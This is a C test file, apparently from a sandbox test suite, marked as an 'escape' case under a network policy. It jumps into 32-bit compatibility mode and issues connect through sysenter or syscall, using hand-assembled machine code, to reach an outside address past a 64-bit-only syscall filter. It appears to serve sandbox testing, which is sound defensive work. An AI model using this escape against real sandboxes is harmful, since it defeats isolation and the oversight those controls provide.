// escape: connects from a 32-bit segment by sysenter or syscall, whichever the processor has there
// group: second ABIs
// policy: network
// neighbour: connect_tcp --neighbour
#include "i386.h"

static struct {
  uint32_t offset;
  uint16_t segment;
} __attribute__((packed)) far_pointer = {0, 0x23};  // __USER32_CS

// Never comes back: the kernel returns to where the C library of a 32-bit program would have been. The call
// is made by then.
__attribute__((noinline)) static void jump(const unsigned char* code, int fd, const void* address) {
  far_pointer.offset = low(code);
  __asm__ volatile("ljmpl *(%[target])"
                   :
                   : "a"(kI386Connect), "b"((long)fd), "c"((long)low(address)),
                     "d"((long)sizeof(struct sockaddr_in)), [target] "D"(&far_pointer)
                   : "memory");
}

static void attack(void) {
  const struct sockaddr_in to = stranger();
  unsigned char* page = low_page();
  memcpy(page, &to, sizeof to);
  // mov esp, STACK; mov ebp, VALUE; the call. sysenter takes the stack from ebp, syscall its second argument.
  for (int way = 0; way < 2; way++) {
    unsigned char* code = page + 512;
    const uint32_t stack = low(page + 2048), ebp = way == 0 ? stack : low(page);
    code[0] = 0xbc;
    memcpy(code + 1, &stack, 4);
    code[5] = 0xbd;
    memcpy(code + 6, &ebp, 4);
    memcpy(code + 10, way == 0 ? "\x0f\x34" : "\x0f\x05", 2);
    if (in_child()) jump(code, tcp(AF_INET), page);
  }
}
